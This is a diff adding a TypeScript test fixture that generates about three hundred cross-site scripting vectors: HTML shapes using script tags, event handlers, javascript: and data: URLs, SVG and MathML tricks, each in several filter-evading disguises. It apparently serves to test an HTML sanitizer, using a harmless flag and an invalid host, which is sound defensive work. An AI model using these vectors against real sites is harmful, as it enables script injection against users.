@@ -1,0 +1,81 @@
+/** What a vector that gets through does: it raises a flag that the proof reads, or asks for an address that the proof sees. */
+const run = 'struck=1'
+const outside = 'http://struck.invalid/x'
+
+/** Ways in which markup makes a page run something or fetch something; `§` stands for the script, `@` for the address. */
+const shapes = [
+  '<script>§</script>',
+  '<script src="@"></script>',
+  '<img src=x onerror="§">',
+  '<img src="@">',
+  '<img srcset="@ 2x">',
+  '<picture><source srcset="@"><img src="@"></picture>',
+  '<svg onload="§"></svg>',
+  '<svg><script>§</script></svg>',
+  '<svg><image href="@" onerror="§"/></svg>',
+  '<svg><use href="@#a"/></svg>',
+  '<svg><animate onbegin="§" attributeName="x" dur="1s"/></svg>',
+  '<svg><foreignObject><iframe srcdoc="<script>parent.§</script>"></iframe></foreignObject></svg>',
+  '<math><mtext><img src=x onerror="§"></mtext></math>',
+  '<math href="javascript:§">公式</math>',
+  '<iframe src="javascript:§"></iframe>',
+  '<iframe srcdoc="<img src=x onerror=parent.§>"></iframe>',
+  '<iframe src="@"></iframe>',
+  '<object data="@"></object>',
+  '<object data="javascript:§"></object>',
+  '<embed src="@">',
+  '<link rel="stylesheet" href="@">',
+  '<link rel="prefetch" href="@">',
+  '<style>@import url("@"); body{background:url("@")}</style>',
+  '<p style="background:url(\'@\')">背景</p>',
+  '<p style="width:expression(§)">宽</p>',
+  '<a href="javascript:§">链接</a>',
+  '<a href=" &#106;avascript:§">链接</a>',
+  '<a href="data:text/html,<script>§</script>">链接</a>',
+  '<a href="vbscript:§">链接</a>',
+  '<a ping="@" href="#">链接</a>',
+  '<body onload="§" background="@">',
+  '<input autofocus onfocus="§">',
+  '<details open ontoggle="§"><summary>提要</summary></details>',
+  '<video src="@" onerror="§" poster="@"></video>',
+  '<video><source onerror="§" src="@"></video>',
+  '<audio src="@" onerror="§"></audio>',
+  '<marquee onstart="§">走</marquee>',
+  '<form action="javascript:§"><button autofocus onfocus="§">按</button></form>',
+  '<isindex action="javascript:§">',
+  '<base href="@">',
+  '<meta http-equiv="refresh" content="0;url=@">',
+  '<meta http-equiv="refresh" content="0;url=javascript:§">',
+  '<table background="@"><tr><td background="@" onmouseover="§">格</td></tr></table>',
+  '<template><img src=x onerror="§"></template>',
+  '<noscript><p title="</noscript><img src=x onerror=§>">题</p></noscript>',
+  '<textarea></textarea><img src=x onerror="§">',
+  '<!--[if gte mso 9]><script>§</script><![endif]-->',
+  '<o:p><img src="@" onerror="§"></o:p>',
+  '<p onclick="§" onpointerenter="§" onfocusin="§" tabindex="0">段</p>',
+  '<p class="x" id="app" data-x="&quot;><img src=x onerror=§>">段</p>',
+  '<section data-recommendation data-id="&quot;><img src=x onerror=§>" data-lead="<img src=x onerror=§>" data-term="@">措施</section>',
+  '<sup data-footnote data-text="<img src=x onerror=§>" data-source="link" data-ref="javascript:§"></sup>',
+  '<figure data-picture="@" data-width="1e9" data-alt="&quot; onerror=&quot;§"><img src="@" onerror="§"></figure>',
+  '<figure data-chart="&quot;><script>§</script>"><figcaption><img src=x onerror="§"></figcaption></figure>',
+  "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='§'/>\">",
+  '<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">',
+  '<ins data-insertion data-author="<img src=x onerror=§>" data-at="&quot;><script>§</script>">增</ins>',
+  '"><img src=x onerror="§">',
+  "'-(§)-'",
+  '{{constructor.constructor("§")()}}',
+] as const
+
+/** The same markup, written so that a rule that looks for the plain form misses it. */
+const disguises: readonly ((markup: string) => string)[] = [
+  (markup) => markup,
+  (markup) => markup.replace(/<(\/?)([a-z]+)/g, (_, slash: string, name: string) => `<${slash}${name.toUpperCase()}`),
+  (markup) => markup.replace(/ (on\w+)=/g, '\n/\t$1\n='),
+  (markup) => `<p>前<b>${markup}</b>后</p>`,
+  (markup) => `<div><span style="font-weight:bold">${markup}</span></div><table><tr><td>${markup}</td></tr></table>`,
+]
+
+/** Three hundred: every shape in every disguise. */
+export const vectors: readonly string[] = disguises.flatMap((disguise) =>
+  shapes.map((shape) => disguise(shape.replaceAll('§', run).replaceAll('@', outside))),
+)
